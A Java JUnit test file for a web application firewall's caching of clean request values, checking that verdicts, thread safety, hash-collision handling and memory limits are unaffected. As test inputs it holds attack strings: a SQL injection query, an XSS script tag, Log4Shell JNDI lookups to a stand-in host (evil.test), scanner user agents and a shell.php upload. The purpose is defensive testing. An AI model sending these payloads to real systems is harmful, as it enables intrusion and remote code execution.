package dev.gantry.gateway.waf;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gantry.gateway.spec.SpecReader;
import dev.gantry.gateway.security.TextKey;
import io.vertx.core.MultiMap;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The cross-request memo of misses ({@link KnownMisses}) changes no verdict: a corpus of clean
 * and attacking requests, whose values repeat across requests and move between places (a payload
 * first in a header few rules read, then in a query argument), gets the same score and the same
 * hits — rule, field, excerpt — from a rule set that remembers as from one that does not, in
 * block and detect mode, with exclusions by field and by route and rules of a file's own.
 */
class RuleSetMemoTest {
  private static WafConfig config(String json) {
    return new WafType().read(SpecReader.of(new JsonObject(json), "waf"));
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "{\"paranoia\": 1}",
      "{\"paranoia\": 4, \"mode\": \"detect\"}",
      "{\"paranoia\": 2, \"threshold\": 3, \"exclusions\": [{\"rule\": 942100, \"target\": \"args:q\"},"
          + " {\"rule\": \"941000-941999\", \"routes\": [\"html\"]},"
          + " {\"rule\": 932170, \"target\": \"headers:referer\"}]}",
      "{\"paranoia\": 3, \"mode\": \"detect\", \"rules\": OWN}"})
  void aRememberingRuleSetGivesTheVerdictsOfOneThatDoesNot(String json) {
    WafConfig config = config(json.replace("OWN", ownRules().encode()));
    RuleSet fresh = new RuleSet(config, false);
    RuleSet warm = new RuleSet(config, true);
    List<Sample> corpus = corpus(new Random(7));
    int attacks = 0;
    for (int round = 0; round < 3; round++) {
      if (round == 2) {
        Collections.shuffle(corpus, new Random(11));
      }
      for (Sample s : corpus) {
        String expected = verdict(fresh, s);
        int r = round;
        assertEquals(expected, verdict(warm, s), () -> "round " + r + ", " + s);
        attacks += expected.startsWith("0 ") ? 0 : 1;
      }
    }
    assertTrue(attacks > corpus.size(), "the corpus attacks: " + attacks);
    assertTrue(warm.remembered() > 100, "the memo was used: " + warm.remembered());
  }

  @Test
  void threadsSharingTheMemoGetTheVerdictsOfOneThatDoesNot() throws Exception {
    WafConfig config = config("{\"paranoia\": 2, \"mode\": \"detect\"}");
    RuleSet fresh = new RuleSet(config, false);
    RuleSet shared = new RuleSet(config, true);
    List<Sample> corpus = corpus(new Random(3));
    java.util.Map<Sample, String> expected = new java.util.IdentityHashMap<>();
    corpus.forEach(s -> expected.put(s, verdict(fresh, s)));
    java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
    try {
      List<java.util.concurrent.Future<?>> runs = new ArrayList<>();
      for (int t = 0; t < 4; t++) {
        List<Sample> order = new ArrayList<>(corpus);
        Collections.shuffle(order, new Random(t));
        runs.add(pool.submit(() -> {
          for (int round = 0; round < 2; round++) {
            for (Sample s : order) {
              assertEquals(expected.get(s), verdict(shared, s), s::toString);
            }
          }
        }));
      }
      for (java.util.concurrent.Future<?> run : runs) {
        run.get(); // an assertion failed on a thread fails here
      }
    } finally {
      pool.shutdownNow();
    }
  }

  /**
   * A request seen before is ruled out by the memo before any rule runs (each rule has a
   * condition known to match nothing where it looks), and the same request with one value turned
   * into an attack — in a named header, a query argument, a cookie — is still caught.
   */
  @Test
  void aRepeatedCleanRequestIsRuledOutRuleByRuleButAnAttackAnywhereIsStillFound() {
    RuleSet rules = new RuleSet(config("{\"paranoia\": 1}"), true);
    java.util.function.BiFunction<String, String[], WafRequest> request = (query, header) -> {
      MultiMap h = MultiMap.caseInsensitiveMultiMap()
          .add("Host", "shop.example.com")
          .add("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0")
          .add("Accept", "application/json")
          .add("Authorization", "Bearer " + "eyJhbGciOiJSUzI1NiJ9.".repeat(30))
          .add("Cookie", "session=7f3a9c2e-41b2-4f0e-9d7a-2c5b8e1f6a90; theme=dark");
      if (header != null) {
        h.set(header[0], header[1]);
      }
      return WafRequest.of("GET", "/catalog/items/12345", query, h, "http/1.1", null);
    };
    String clean = "q=running+shoes&page=2&sort=price";
    assertEquals(0, rules.evaluate(request.apply(clean, null), null).score());
    assertEquals(0, rules.evaluate(request.apply(clean, null), null).score());
    assertEquals(rules.rules(), rules.knownClean(request.apply(clean, null)), "every rule ruled out by the memo");
    assertTrue(rules.evaluate(request.apply(clean, new String[] {"User-Agent", "sqlmap/1.7"}), null).score() > 0);
    assertTrue(rules.evaluate(request.apply("q=1%27+or+%271%27%3D%271&page=2&sort=price", null), null).score() > 0);
    assertTrue(rules.evaluate(request.apply(clean, new String[] {"Cookie", "session=<script>alert(1)</script>"}), null)
        .score() > 0);
    assertTrue(rules.evaluate(request.apply(clean, new String[] {"Accept", "${jndi:ldap://evil.test/a}"}), null)
        .score() > 0);
    assertTrue(rules.evaluate(request.apply(clean, new String[] {"Content-Length", "12"}), null).score() > 0,
        "a GET with a body: a header the clean request did not have");
    assertEquals(0, rules.evaluate(request.apply(clean, null), null).score(), "and the clean one still passes");
  }

  /**
   * Long values are keyed in the memo by a hash that reads only their ends and a sample of their
   * middle: an attack written where the hash does not look shares the hash of a clean value the
   * memo knows, and must still be inspected, not taken for it.
   */
  @Test
  void anAttackHiddenWhereALongValuesHashDoesNotLookIsNotTakenForTheCleanValue() {
    RuleSet rules = new RuleSet(config("{\"paranoia\": 1}"), true);
    String clean = "a".repeat(1_000);
    String lookup = "${jndi:ldap://e}";
    String attack = null;
    for (int at = 100; at < 900 && attack == null; at++) {
      String candidate = clean.substring(0, at) + lookup + clean.substring(at + lookup.length());
      if (new TextKey(candidate).hashCode() == new TextKey(clean).hashCode()) {
        attack = candidate;
      }
    }
    assertTrue(attack != null, "a stretch the hash does not read");
    for (int i = 0; i < 3; i++) {
      MultiMap headers = MultiMap.caseInsensitiveMultiMap().add("Accept", new String(clean.toCharArray()));
      assertEquals(0, rules.evaluate(WafRequest.of("GET", "/p", null, headers, "http/1.1", null), null).score());
    }
    MultiMap headers = MultiMap.caseInsensitiveMultiMap().add("Accept", attack);
    RuleSet.Verdict v = rules.evaluate(WafRequest.of("GET", "/p", null, headers, "http/1.1", null), null);
    assertTrue(v.score() > 0, "the hidden lookup is found");
    assertEquals(944150, v.hits().get(0).rule().id());
  }

  @Test
  void theMemoStartsOverWhenFullAndKeepsNoLongValues() {
    RuleSet rules = new RuleSet(config("{\"paranoia\": 1}"), true);
    MultiMap headers = MultiMap.caseInsensitiveMultiMap().add("User-Agent", "x".repeat(KnownMisses.MAX_LENGTH + 1));
    for (int i = 0; i < KnownMisses.MAX_ENTRIES + 500; i++) {
      rules.evaluate(WafRequest.of("GET", "/p", "q=shoes+" + i, headers, "http/1.1", null), null);
      assertTrue(rules.remembered() <= KnownMisses.MAX_ENTRIES, "entries: " + rules.remembered());
    }
    KnownMisses memo = new KnownMisses();
    memo.learn(new TextKey("short"), new long[] {1});
    assertEquals(KnownMisses.NOTHING, memo.of(new TextKey("x".repeat(KnownMisses.MAX_LENGTH + 1))));
    assertEquals(1, memo.of(new TextKey("short"))[0]);
  }

  /**
   * However many WAF policies a node has, their memos together stay under the node's budget: fifty
   * memos each fed 8,000 distinct 1 KiB values (about 16 MiB each, 800 MiB without the node bound)
   * are cleared together whenever what they stored passes it.
   */
  @Test
  void allMemosOfTheNodeTogetherStayUnderItsBudget() {
    List<KnownMisses> memos = new java.util.ArrayList<>();
    for (int m = 0; m < 50; m++) {
      memos.add(new KnownMisses());
    }
    String filler = "v".repeat(KnownMisses.MAX_LENGTH - 8);
    long most = 0;
    for (int i = 0; i < 8_000; i++) {
      for (KnownMisses memo : memos) {
        memo.learn(new TextKey(filler + String.format("%08d", i)), new long[] {1});
      }
      long held = 0;
      for (KnownMisses memo : memos) {
        held += memo.size() * KnownMisses.cost(filler + "00000000");
      }
      most = Math.max(most, held);
      assertTrue(KnownMisses.nodeStored() <= KnownMisses.NODE_BUDGET, "stored: " + KnownMisses.nodeStored());
    }
    assertTrue(most <= KnownMisses.NODE_BUDGET, "the memos held " + most + " accounted bytes at most");
    assertTrue(most > KnownMisses.NODE_BUDGET / 2, "and were used: " + most);
  }

  /** Rules of a file's own: a negated regex, a rule of two conditions with a field left out, other operators. */
  private static JsonArray ownRules() {
    return new JsonArray()
        .add(new JsonObject().put("id", 100).put("message", "no lower-case token").put("targets", new JsonArray()
            .add("headers:x-token")).put("match", new JsonObject().put("regex", "^[a-z]+$")).put("negate", true))
        .add(new JsonObject().put("id", 101).put("message", "long argument from an admin")
            .put("targets", new JsonArray().add("args").add("!args:password"))
            .put("match", new JsonObject().put("length-over", 40))
            .put("and", new JsonArray().add(new JsonObject().put("targets", new JsonArray().add("cookies:role"))
                .put("transforms", new JsonArray().add("lowercase"))
                .put("match", new JsonObject().put("equals", "admin")))))
        .add(new JsonObject().put("id", 102).put("message", "control bytes")
            .put("targets", new JsonArray().add("args").add("headers"))
            .put("match", new JsonObject().put("byte-range", "9,10,13,32-126,128-255")))
        .add(new JsonObject().put("id", 103).put("message", "php file")
            .put("targets", new JsonArray().add("files").add("args:file"))
            .put("transforms", new JsonArray().add("lowercase"))
            .put("match", new JsonObject().put("ends-with", ".php")));
  }

  /** A request as parts, so that each rule set reads its own {@link WafRequest} of it. */
  record Sample(String method, String path, String query, List<String[]> headers, String contentType, String body,
      String route) {
    WafRequest request() {
      MultiMap h = MultiMap.caseInsensitiveMultiMap();
      headers.forEach(kv -> h.add(kv[0], kv[1]));
      if (contentType != null) {
        h.add("Content-Type", contentType);
      }
      return WafRequest.of(method, path, query, h, "HTTP/1.1", body == null ? null : Buffer.buffer(body));
    }

    @Override
    public String toString() {
      return method + " " + path + "?" + query + " route=" + route + " headers="
          + headers.stream().map(kv -> kv[0] + ": " + kv[1]).collect(Collectors.joining(" | ")) + " body=" + body;
    }
  }

  private static String verdict(RuleSet rules, Sample s) {
    RuleSet.Verdict v = rules.evaluate(s.request(), s.route());
    return v.score() + " " + v.hits().stream()
        .map(h -> h.rule().id() + "@" + h.field().variable() + "=" + h.matched()).collect(Collectors.joining(", "));
  }

  private static List<Sample> corpus(Random random) {
    List<String> attacks = new ArrayList<>();
    for (String c : List.of("sqli", "xss", "traversal", "rce", "lfi", "rfi", "php", "java", "template", "scanners")) {
      attacks.addAll(lines("attacks/" + c + ".txt"));
    }
    List<String> clean = new ArrayList<>(lines("false-positives/args.txt"));
    clean.addAll(List.of("running shoes", "42", "price", "en-GB,en;q=0.9", "Admin", "admin", "abc", "abc1",
        "a".repeat(41), "b".repeat(KnownMisses.MAX_LENGTH + 5), "tab\there", "shell.PHP", "", "ünïcödé ＜b＞"));
    List<String> agents = List.of(
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "curl/8.5.0", "okhttp/4.12.0", "sqlmap/1.8#stable (https://sqlmap.org)", "Nikto/2.5.0");
    List<Sample> out = new ArrayList<>();
    for (int i = 0; i < 1_500; i++) {
      boolean attacking = random.nextInt(3) == 0;
      String payload = attacking ? pick(random, attacks) : pick(random, clean);
      String other = pick(random, clean);
      // a value seen before where few rules look, then where many do (and the other way round)
      String recent = out.isEmpty() ? other : out.get(random.nextInt(out.size())).headers().get(3)[1];
      List<String[]> headers = new ArrayList<>();
      headers.add(new String[] {"Host", "shop.example.com"});
      headers.add(new String[] {"User-Agent", pick(random, agents)});
      headers.add(new String[] {"Accept", "text/html,application/xhtml+xml,*/*;q=0.8"});
      headers.add(new String[] {"X-Note", random.nextBoolean() ? payload : other});
      headers.add(new String[] {"Cookie", "session=s" + random.nextInt(20) + "; role=" + (random.nextBoolean()
          ? "Admin" : "user") + "; pref=" + cookieSafe(random.nextInt(4) == 0 ? recent : other)});
      if (random.nextInt(4) == 0) {
        headers.add(new String[] {"Referer", random.nextBoolean() ? payload : "https://shop.example.com/?q=" + other});
      }
      if (random.nextInt(5) == 0) {
        headers.add(new String[] {"X-Token", random.nextBoolean() ? "abc" : "abc1"});
      }
      if (random.nextInt(10) == 0) {
        headers.add(new String[] {"Content-Length", random.nextBoolean() ? "0" : "12"});
      }
      String q = encode(random.nextInt(3) == 0 ? recent : payload);
      String query = switch (random.nextInt(5)) {
        case 0 -> null;
        case 1 -> "q=" + q + "&page=" + random.nextInt(3) + "&file=" + encode(pick(random, clean));
        case 2 -> "q=" + q + "&password=" + encode("a".repeat(41)) + "&" + encode(other) + "=1";
        case 3 -> "q=%zz" + q;
        default -> "q=" + q;
      };
      String contentType = null;
      String body = null;
      String method = "GET";
      switch (random.nextInt(6)) {
        case 0 -> {
          method = "POST";
          contentType = "application/json";
          body = new JsonObject().put("comment", random.nextBoolean() ? payload : recent).put("name", other)
              .put("n", i).encode();
        }
        case 1 -> {
          method = "POST";
          contentType = "application/x-www-form-urlencoded";
          body = "comment=" + encode(payload) + "&name=" + encode(other);
        }
        case 2 -> {
          method = "POST";
          contentType = "multipart/form-data; boundary=b";
          String file = random.nextBoolean() ? "shell.php" : "photo.jpg";
          body = "--b\r\nContent-Disposition: form-data; name=\"up\"; filename=\"" + file + "\"\r\n\r\nxx\r\n"
              + "--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n" + payload + "\r\n--b--\r\n";
        }
        case 3 -> {
          method = "POST";
          contentType = "application/json";
          body = "{not json " + other;
        }
        default -> { }
      }
      String route = random.nextBoolean() ? "html" : "api";
      String path = random.nextInt(8) == 0 ? "/files/" + encode(payload) : "/catalog/items/" + random.nextInt(100);
      out.add(new Sample(method, path, query, headers, contentType, body, route));
    }
    return out;
  }

  private static String cookieSafe(String v) {
    return v.replace(";", "").replace("\r", "").replace("\n", "");
  }

  private static String encode(String v) {
    return URLEncoder.encode(v, StandardCharsets.UTF_8);
  }

  private static String pick(Random random, List<String> list) {
    return list.get(random.nextInt(list.size()));
  }

  private static List<String> lines(String resource) {
    try (InputStream in = RuleSetMemoTest.class.getClassLoader().getResourceAsStream("waf/" + resource)) {
      String text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
      return text.lines().filter(l -> !l.isBlank() && !l.startsWith("#")).toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
